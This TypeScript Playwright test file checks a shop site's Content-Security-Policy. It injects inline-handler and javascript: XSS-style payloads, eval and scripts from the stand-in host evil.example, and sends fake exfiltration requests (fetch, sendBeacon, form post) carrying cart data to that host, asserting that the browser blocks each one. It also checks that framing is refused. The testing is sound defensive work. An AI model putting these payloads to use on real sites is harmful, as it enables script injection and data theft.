import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../../support/browser/shop-test.ts';

/** What the page tried to run, and what the browser blocked. */
interface Tried {
  readonly ran: readonly string[];
  readonly refused: readonly string[];
}

test.describe('Content-Security-Policy', () => {
  test('the browser runs only the shop’s own scripts in a page', async ({ page, expectNoise }) => {
    expectNoise(/refused by the policy: script-src|Content Security Policy|evil\.example/);
    await page.goto('/product/omega-3');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(async () => {
      const ran: string[] = [];
      const refused: string[] = [];
      Object.assign(window, { ran, refused, run: (what: string) => void ran.push(what) });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        refused.push(`${effectiveDirective} ${blockedURI}`);
      });
      const add = (fields: object): HTMLScriptElement => {
        const script = Object.assign(document.createElement('script'), fields);
        document.body.append(script);
        return script;
      };
      /** Resolves once the script was loaded or blocked. */
      const ended = (script: HTMLScriptElement): Promise<unknown> =>
        new Promise((done) => {
          for (const end of ['load', 'error']) script.addEventListener(end, done);
        });
      add({ textContent: 'run("inline")' });
      const scripts = [
        'https://evil.example/x.js',
        'data:text/javascript,run("data")',
        URL.createObjectURL(new Blob(['run("blob")'])),
        'https://www.google.com/recaptcha/about/js/main.min.js',
      ].map((src) => ended(add({ src })));
      const holder = document.createElement('div');
      holder.innerHTML =
        '<img alt="" src="data:," onerror="run(\'handler\')"><a id="hostile" href="javascript:run(\'link\')">a</a><svg onload="run(\'svg\')"></svg>';
      document.body.append(holder);
      document.getElementById('hostile')?.click();
      const pictures = [...holder.querySelectorAll('img')].map(
        (image) => new Promise((done) => image.addEventListener('error', done)),
      );
      // Deferred: the evaluated test function itself may create code from a string.
      const evaluated = new Promise<void>((done) => {
        setTimeout(() => {
          try {
            // oxlint-disable-next-line typescript/no-implied-eval
            const evaluate = new Function('run("function")') as () => void;
            evaluate();
          } catch {
            refused.push('eval');
          }
          done();
        }, 0);
      });
      await Promise.all([...scripts, ...pictures, evaluated]);
    });
    // The browser reports violations in separate tasks.
    const refused = () => page.evaluate(() => (window as unknown as Tried).refused);
    const all = ['script-src-elem inline', 'script-src-attr inline', 'eval'];
    const address = 'script-src-elem https://evil.example/x.js';
    await expect.poll(refused).toEqual(expect.arrayContaining([...all, address]));
    expect((await refused()).filter((one) => one.includes('recaptcha'))).toHaveLength(1);
    expect(await page.evaluate(() => (window as unknown as Tried).ran)).toEqual([]);
  });

  test('no data of a page can leave, and no site can embed it', async ({
    page,
    context,
    baseURL,
    expectNoise,
  }) => {
    expectNoise(/refused by the policy:|Content Security Policy|evil\.example|Refused to/);
    expectNoise(/frame-ancestors|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE|chrome-error/);
    const elsewhere: string[] = [];
    await context.route('https://evil.example/**', async (route) => {
      elsewhere.push(route.request().url());
      await route.abort();
    });
    await page.goto('/faq');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(async () => {
      const refused: string[] = [];
      Object.assign(window, { refused });
      document.addEventListener('securitypolicyviolation', (event) => {
        refused.push(event.effectiveDirective);
      });
      await fetch('https://evil.example/?cart').catch(() => null);
      navigator.sendBeacon('https://evil.example/?cart');
      document.body.insertAdjacentHTML(
        'beforeend',
        `<base href="https://evil.example/"><img alt="" src="https://evil.example/pixel.png">
         <iframe title="a" src="https://evil.example/"></iframe>
         <object data="https://evil.example/"></object>
         <form action="https://evil.example/" method="post"><button id="send">a</button></form>`,
      );
      document.getElementById('send')?.click();
    });
    const reports = async () => {
      const refused = await page.evaluate(() => (window as unknown as Tried).refused);
      return [...new Set(refused)].sort();
    };
    await expect
      .poll(reports)
      .toEqual(['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src']);
    // Any allowed request has left before the response to this one arrives.
    await page.evaluate(async () => (await fetch('/favicon.svg')).text());
    expect(elsewhere).toEqual([]);

    // The other way round, no other site can embed the shop in a frame.
    const site = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<iframe title="the shop" src="${baseURL ?? ''}/dashboard"></iframe>`);
    });
    await new Promise<void>((listening) => void site.listen(0, 'localhost', () => listening()));
    try {
      const { port } = site.address() as AddressInfo;
      const refused = page.waitForEvent('console', (message) =>
        /frame-ancestors|X-Frame-Options/.test(message.text()),
      );
      await page.goto(`http://localhost:${port}/`);
      await refused;
      await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0);
    } finally {
      site.close();
      site.closeAllConnections();
    }
  });
});
